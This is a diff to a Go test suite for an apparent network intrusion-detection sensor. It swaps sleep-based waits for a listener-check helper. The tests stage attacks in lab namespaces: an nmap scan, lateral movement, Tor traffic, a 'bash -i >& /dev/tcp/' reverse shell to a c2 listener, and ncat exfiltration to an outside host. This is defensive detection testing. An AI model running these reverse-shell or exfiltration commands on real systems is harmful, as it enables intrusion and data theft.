@@ -31,11 +31,11 @@ func TestPortScan(t *testing.T) {
 			target, scannerNS := netns.HostIP, topo.LAN[0]
 			if tc.inbound {
 				bg(t, topo, topo.HostCmd(ctxFor(t, 60*time.Second), "sh", "-c", "sleep 40 | timeout 40 ncat -l -k "+target+" 22 >/dev/null"))
+				topo.WaitListen(t, topo.H, target, "22")
 			} else {
 				target, scannerNS = lanIP(0), topo.H
 				listen(t, topo, topo.LAN[0], target, "22", 40*time.Second)
 			}
-			waitListen(t, topo, map[bool]string{true: topo.G, false: topo.LAN[0]}[tc.inbound], target, "22")
 			s := startSensor(t, topo, tc.name, sensorOptions{})
 			// --max-rate 500: 1000 ports in about two seconds, a scan a poll can see.
 			args := []string{tc.flag, "-Pn", "-n", "--max-rate", "500", "-p", "1-1000", target}
@@ -91,7 +91,6 @@ func TestLateralMovement(t *testing.T) {
 			listen(t, topo, l, lanIP(i), "445", 40*time.Second)
 			listen(t, topo, l, lanIP(i), "3389", 40*time.Second)
 		}
-		waitListen(t, topo, topo.LAN[2], lanIP(2), "3389")
 		s := startSensor(t, topo, "lateral_smb_rdp", sensorOptions{})
 		starts := map[string]time.Time{}
 		for _, port := range []string{"445", "3389"} {
@@ -169,7 +168,6 @@ func TestTor(t *testing.T) {
 		}
 		listen(t, topo, topo.I, ip, "9001", 60*time.Second)
 	}
-	waitListen(t, topo, topo.I, relay, "9001")
 	s := startSensor(t, topo, "tor", sensorOptions{relays: []string{bridge, relay}})
 	data := t.TempDir()
 	torrc := filepath.Join(data, "torrc")
@@ -290,7 +288,7 @@ func TestReverseShell(t *testing.T) {
 	}
 	// The listener's stdin stays open, or ncat closes the shell at once.
 	bg(t, topo, topo.Cmd(ctxFor(t, 40*time.Second), topo.I, "sh", "-c", "sleep 30 | timeout 30 ncat -l "+c2+" 4444 >/dev/null"))
-	waitListenNoConnect(t)
+	topo.WaitListen(t, topo.I, c2, "4444")
 	s := startSensor(t, topo, "reverse_shell", sensorOptions{})
 	_, start := hostStart(t, topo, 30*time.Second, "timeout", "20", "bash", "-c", "bash -i >& /dev/tcp/"+c2+"/4444 0>&1")
 	e := s.expect(t, "reverse_shell", "T1059.004", start, "bash -i >& /dev/tcp/"+c2+"/4444",
@@ -298,10 +296,6 @@ func TestReverseShell(t *testing.T) {
 	wantField(t, e, "process.name", "bash")
 	wantField(t, e, "destination.port", "4444")
 }
-
-// waitListenNoConnect gives a single-connection listener time to start (a
-// probe connection would consume it).
-func waitListenNoConnect(t *testing.T) { time.Sleep(500 * time.Millisecond) }
 
 // arpspoof on a LAN host tells the monitored host that the gateway's address
 // is at the attacker's MAC.
@@ -330,7 +324,7 @@ func TestExfiltration(t *testing.T) {
 		t.Fatal(err)
 	}
 	bg(t, topo, topo.Cmd(ctxFor(t, 40*time.Second), topo.I, "sh", "-c", "timeout 30 ncat -l --recv-only "+dst+" 443 >/dev/null"))
-	waitListenNoConnect(t)
+	topo.WaitListen(t, topo.I, dst, "443")
 	s := startSensor(t, topo, "exfiltration", sensorOptions{})
 	// 200 MB paced over ~3 s, so the connection is open across polls and its
 	// owner is observable (a faster burst is TestExfiltrationBurst).
@@ -363,7 +357,7 @@ func TestExfiltrationBurst(t *testing.T) {
 		t.Fatal(err)
 	}
 	bg(t, topo, topo.Cmd(ctxFor(t, 40*time.Second), topo.I, "sh", "-c", "timeout 30 ncat -l --recv-only "+dst+" 443 >/dev/null"))
-	waitListenNoConnect(t)
+	topo.WaitListen(t, topo.I, dst, "443")
 	s := startSensor(t, topo, "exfiltration_burst", sensorOptions{})
 	cmd, start := hostStart(t, topo, 30*time.Second, "sh", "-c", "head -c 200M /dev/zero | ncat --send-only "+dst+" 443")
 	if err := cmd.Wait(); err != nil {
